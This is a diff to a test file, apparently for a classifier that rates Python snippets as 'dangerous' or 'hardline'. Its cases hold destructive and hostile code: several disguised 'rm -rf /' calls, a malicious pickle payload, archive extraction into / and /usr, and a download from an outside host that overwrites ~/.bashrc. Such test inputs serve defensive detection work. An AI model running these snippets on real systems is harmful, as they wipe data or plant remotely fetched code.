@@ -109,6 +109,8 @@ const python: [string, Want, string][] = [
   ["import code\ncode.InteractiveInterpreter().runsource('import os; os.system(\"rm -rf /\")')", 'hardline', 'recursive delete of /'],
   ["import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", 'dangerous', 'unpickles data written into the code'],
   ["import tarfile\ntarfile.open('x.tgz').extractall('/')", 'dangerous', 'unpacks files into /'],
+  ["import shutil\nshutil.unpack_archive('x.tgz', '/usr')", 'dangerous', 'unpacks files into /usr'],
+  ["import urllib.request, os\nurllib.request.urlretrieve('https://x.io/rc', os.path.expanduser('~/.bashrc'))", 'dangerous', 'writes to /home/agent/.bashrc'],
   ["import os\nfor c in ['rm -rf /']:\n    os.system(c)", 'hardline', 'recursive delete of /'],
   ["import sys\nsys.modules.get('os').system('rm -rf /')", 'hardline', 'recursive delete of /'],
   ["import os\nos.system(command='rm -rf /')", 'hardline', 'recursive delete of /'],
